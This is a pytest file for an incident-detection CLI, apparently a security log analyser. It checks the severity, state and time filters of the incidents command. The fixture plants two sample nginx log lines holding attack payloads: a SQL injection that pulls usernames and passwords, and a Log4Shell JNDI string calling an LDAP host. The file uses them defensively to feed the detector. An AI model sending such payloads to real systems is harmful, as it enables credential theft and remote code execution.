"""``canhgac incidents --state/--severity/--since``: repeatable, comma lists, durations or ISO times."""

from __future__ import annotations

import json
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from canhgac.core.timeutil import VIETNAM

from canhgac.cli import main


def line(at: datetime, ip: str, target: str, status: int, agent: str = "Mozilla/5.0") -> str:
    stamp = at.astimezone(VIETNAM).strftime("%d/%b/%Y:%H:%M:%S +0700")
    return f'{ip} - - [{stamp}] "GET {target} HTTP/1.1" {status} 312 "-" "{agent}"\n'


@pytest.fixture
def stored(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> datetime:
    """A high incident (SQL injection) two hours ago and a critical one (Log4Shell) half an hour ago."""
    now = datetime.now(VIETNAM).replace(microsecond=0)
    log = tmp_path / "access.log"
    log.write_text(line(now - timedelta(hours=2), "203.0.113.66", "/tra-cuu?tu_khoa=%27%20UNION%20SELECT%20"
                        "username,password%20FROM%20nguoi_dung--", 500)
                   + line(now - timedelta(minutes=30), "192.0.2.9", "/", 200, "${jndi:ldap://192.0.2.9:1389/a}"),
                   encoding="utf-8")
    assert main(["ingest", str(log), "--source", "nginx", "--agency", "gialai", "--json"]) == 0
    capsys.readouterr()
    return now


def severities(capsys: pytest.CaptureFixture[str], *options: str) -> list[str]:
    capsys.readouterr()
    assert main(["incidents", "--format", "jsonl", *options]) == 0
    return sorted(json.loads(row)["severity"] for row in capsys.readouterr().out.splitlines())


def test_severity_filter_takes_repeats_and_comma_lists(stored: datetime, capsys: pytest.CaptureFixture[str]) -> None:
    assert severities(capsys) == ["critical", "high"]
    assert severities(capsys, "--severity", "critical") == ["critical"]
    assert severities(capsys, "--severity", "high,critical") == ["critical", "high"]
    assert severities(capsys, "--severity", "low", "--severity", "high") == ["high"]
    assert severities(capsys, "--severity", "low,medium") == []


def test_state_filter(stored: datetime, capsys: pytest.CaptureFixture[str]) -> None:
    assert severities(capsys, "--state", "closed") == []
    assert severities(capsys, "--state", "closed,new") == ["critical", "high"]
    assert severities(capsys, "--state", "acknowledged", "--state", "new", "--severity", "high") == ["high"]
    with pytest.raises(SystemExit) as exit_info:
        main(["incidents", "--state", "new,done"])
    assert exit_info.value.code == 2 and "'done'" in capsys.readouterr().err


def test_since_takes_a_duration_or_an_iso_time(stored: datetime, capsys: pytest.CaptureFixture[str]) -> None:
    assert severities(capsys, "--since", "1h") == ["critical"]
    assert severities(capsys, "--since", "3h") == ["critical", "high"]
    local = (stored - timedelta(minutes=90)).replace(tzinfo=None).isoformat()  # no zone: Vietnam's time
    assert severities(capsys, "--since", local) == ["critical"]
    utc = (stored - timedelta(minutes=150)).astimezone().isoformat()
    assert severities(capsys, "--since", utc) == ["critical", "high"]
    assert severities(capsys, "--since", "3h", "--until", "1h") == ["high"]
